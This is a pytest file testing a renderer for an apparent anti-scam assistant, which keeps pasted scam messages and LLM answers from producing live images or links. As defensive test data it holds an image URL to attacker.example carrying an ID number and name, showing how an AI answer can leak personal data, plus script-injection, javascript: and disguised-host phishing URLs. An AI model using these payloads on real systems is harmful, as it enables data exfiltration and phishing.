"""The rendering rule for text that did not come from this project (yuqi/render.py)."""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser

import pytest

from yuqi.render import (
    clean_passage, find_links, highlight_html, inert_label, is_official, markdown_html, plain_html,
)

SCAM_SMS = "【法院通知】您的案件已立案。\n\n![](//host.example/track.png?u=victim)\n\n[付款](//host.example/pay)\n详情 http://t.cn/A6abcd 。"


class Tags(HTMLParser):
    """Every tag with its attributes, as a browser would build them."""

    def __init__(self, text: str):
        super().__init__()
        self.tags: list[tuple[str, dict]] = []
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def of(self, name: str) -> list[dict]:
        return [a for t, a in self.tags if t == name]


def visible(fragment: str) -> str:
    return html.unescape(re.sub(r"<[^>]+>", "", fragment))


@pytest.mark.parametrize("render", [plain_html, markdown_html, lambda t: highlight_html(t, [])])
def test_markdown_in_a_pasted_message_never_becomes_an_image_or_a_link(render):
    out = render(SCAM_SMS)
    tags = Tags(out)
    assert not tags.of("img")
    assert all("host.example" not in a.get("href", "") and "t.cn" not in a.get("href", "") for a in tags.of("a"))
    assert "\n" not in out  # one HTML block: Streamlit's Markdown parser never sees the inside
    # no Markdown syntax survives as characters Markdown could read: brackets and parens are entities
    assert "](" not in out and "![" not in out
    assert "t.cn/A6abcd" in visible(out) or "付款" in visible(out)


def test_raw_html_is_shown_as_text_not_markup():
    out = markdown_html('好的<img src="http://x.example/a.png"><script>alert(1)</script><a href="http://x.example">点我</a>')
    tags = Tags(out)
    assert not tags.of("img") and not tags.of("script") and not tags.of("a")
    assert "<script>" in visible(out)


def test_llm_answer_image_with_personal_data_is_not_drawn():
    answer = "结论：请核验 ![核验](http://attacker.example/check.png?id=110101199003071234&name=王强)"
    out = markdown_html(answer, private=["王强", "110101199003071234"])
    assert not Tags(out).of("img")
    assert "attacker.example" not in " ".join(a.get("href", "") for a in Tags(out).of("a"))


def test_official_link_renders_whole_and_stops_at_chinese_punctuation():
    text = "登录征信中心官网（www.pbccrc.org.cn）查询本人信用报告，或拨打 12368。"
    out = plain_html(text)
    links = Tags(out).of("a")
    assert [a["href"] for a in links] == ["https://www.pbccrc.org.cn", "tel:12368"]
    assert "）查询本人信用报告" in visible(out)  # the following text is not swallowed
    assert links[0]["rel"].split() >= ["noopener"]


def test_official_link_inside_markdown_stays_live_and_scam_link_text_stays_readable():
    out = markdown_html("核实：[人民法院在线服务](https://zxfw.court.gov.cn/zxfw/) · [立即缴费](http://court-gov.cn.pay.example/x)")
    hrefs = [a["href"] for a in Tags(out).of("a")]
    assert hrefs == ["https://zxfw.court.gov.cn/zxfw/"]
    assert "立即缴费" in visible(out) and "court-gov.cn.pay.example" in visible(out)


@pytest.mark.parametrize("url, official", [
    ("https://zxfw.court.gov.cn/zxfw/", True),
    ("www.pbccrc.org.cn", True),
    ("http://www.gov.cn", True),
    ("https://court.gov.cn.evil.example/", False),  # the official name as a subdomain of another host
    ("https://gov.cn@evil.example/", False),  # userinfo: the browser goes to evil.example
    ("https://evilcourt.gov.cn.example", False),
    ("https://xgov.cn/", False),
    ("//zxfw.court.gov.cn/x", False),  # protocol-relative: only explicit http(s) or bare www.
    ("javascript:alert(1)//gov.cn", False),
    ("http://t.cn/A6abcd", False),
])
def test_official_hosts_by_parsed_hostname(url, official):
    assert is_official(url) is official


def test_a_url_carrying_personal_data_is_never_live_even_on_an_official_host():
    links = find_links("查询 https://zxfw.court.gov.cn/q?phone=13912345678 或 https://zxfw.court.gov.cn/q?n=%E7%8E%8B%E5%BC%BA",
                       private=["王强"])
    assert [link.live for link in links] == [False, False]
    answer = markdown_html("请到[官网](https://zxfw.court.gov.cn/q?name=王强&card=6222021234567890123)核对", private=["王强"])
    assert not Tags(answer).of("a") and "王强" in visible(answer)
    out = plain_html("查询 https://zxfw.court.gov.cn/q?phone=13912345678")
    assert not Tags(out).of("a") and "13912345678" in visible(out)


def test_bare_short_links_are_found_but_inert():
    links = find_links("点击 t.cn/A6xyz 或 dwz.cn/abc 办理")
    assert [(link.url, link.live) for link in links] == [("t.cn/A6xyz", False), ("dwz.cn/abc", False)]


def test_highlight_marks_cues_and_keeps_text_exact():
    class Cue:
        def __init__(self, start, end, label):
            self.start, self.end, self.label = start, end, label

    text = "请今日转账至 6222 0212，否则<b>起诉</b>"
    out = highlight_html(text, [Cue(2, 6, "付款要求"), Cue(18, 20, '"><img src=x>')])
    marks = Tags(out).of("mark")
    assert len(marks) == 2 and not Tags(out).of("img") and not Tags(out).of("b")
    assert visible(out) == text


def test_clean_passage_drops_markdown_and_marks_cuts():
    raw = "款规定的期限。\n## 一、怎么核实\n- 登录 **人民法院在线服务** 查询案件\n- 拨打 12368"
    out = clean_passage(raw, mid_start=True)
    assert not out.startswith("款") and "##" not in out and "**" not in out and "\n- " not in out
    assert out.startswith("一、怎么核实") and out.endswith("…")
    assert clean_passage("没有句号的半句话被截断", mid_start=True).startswith("…")


def test_labels_cannot_carry_markdown_links_or_images():
    label = inert_label("[1] 《标题![x](http://evil.example/a.png)》 www.evil.example")
    assert "](" not in label and "www." not in label and "http:" not in label


def test_split_sections_keeps_the_direct_answer_first():
    from yuqi.render import split_sections

    head, sections = split_sections("**结论：诈骗**。不要转账。\n\n**为什么**\n- 理由[1]\n\n**现在该做什么**\n- 保留证据\n\n**空**\n")
    assert head == "**结论：诈骗**。不要转账。"
    assert [t for t, _ in sections] == ["为什么", "现在该做什么"]
    assert sections[0][1] == "- 理由[1]"


def test_labels_keep_plain_text_readable():
    assert inert_label("miss-1 · 检索未命中") == "miss-1 · 检索未命中"
    assert inert_label("- 列表").startswith("\\-") and inert_label("1. 标题").startswith("1\\.")


def test_a_bold_conclusion_line_is_the_direct_answer_not_a_section():
    from yuqi.render import split_sections

    head, sections = split_sections("**结论：这是诈骗**\n法院不会让你点链接缴费。\n\n### 怎么核实\n拨打 12368")
    assert head.startswith("**结论：这是诈骗**") and [t for t, _ in sections] == ["怎么核实"]


# --- issue 25: hosts as a browser reads them, no personal data in a live link, tap-to-call hotlines ---

@pytest.mark.parametrize("text", [
    "详情见 https://evil.example\\.court.gov.cn/x 办理",
    "详情见 https://evil.example%5C.court.gov.cn/x 办理",
    "详情见 https://www.court.gov.cn@evil.example/x 办理",
    "详情见 https:\\\\evil.example\\www.court.gov.cn 办理",
])
@pytest.mark.parametrize("render", [plain_html, markdown_html])
def test_backslash_and_userinfo_hosts_are_not_official(text, render):
    """No live link goes to evil.example: each href's host, as a browser parses it, is official."""
    from urllib.parse import urlsplit

    for a in Tags(render(text)).of("a"):
        parts = urlsplit(a["href"].replace("\\", "/"))
        assert "\\" not in a["href"] and "%5c" not in a["href"].lower() and "@" not in parts.netloc
        assert parts.hostname and parts.hostname.endswith(("court.gov.cn", ".gov.cn")), a["href"]
        assert not parts.hostname.startswith("evil.example") or parts.hostname.endswith(".court.gov.cn")


@pytest.mark.parametrize("url", [
    "https://www.court.gov.cn/?name=张三&addr=北京市朝阳区建国路88号",
    "https://www.court.gov.cn/?id=1101\u200b0119900307\u200b1234",
    "https://www.court.gov.cn/q?tel=139%E2%80%8B1234%E2%80%8B5678",
    "https://www.court.gov.cn/q?xm=%E5%BC%A0%E4%B8%89",
])
@pytest.mark.parametrize("render", [lambda u: plain_html(f"核实 {u} 。"), lambda u: markdown_html(f"[核实]({u})")])
def test_official_link_with_personal_data_is_never_live(url, render):
    assert not [a for a in Tags(render(url)).of("a") if a["href"].startswith("http")]


def test_official_link_without_personal_data_stays_live():
    out = markdown_html("[执行信息公开网](https://zxgk.court.gov.cn/)")
    assert [a["href"] for a in Tags(out).of("a")] == ["https://zxgk.court.gov.cn/"]


@pytest.mark.parametrize("number", ["110", "96110", "12368", "12378", "12348"])
@pytest.mark.parametrize("render", [plain_html, markdown_html])
def test_hotlines_are_tap_to_call(number, render):
    out = render(f"如遇威胁请拨打{number}，或咨询。")
    assert [a["href"] for a in Tags(out).of("a")] == [f"tel:{number}"]


@pytest.mark.parametrize("text", ["欠款110元", "身份证110101199003071234", "第12368号", "电话13912368000", "12368.5"])
def test_hotline_digits_inside_other_numbers_are_not_links(text):
    assert not Tags(plain_html(text)).of("a")
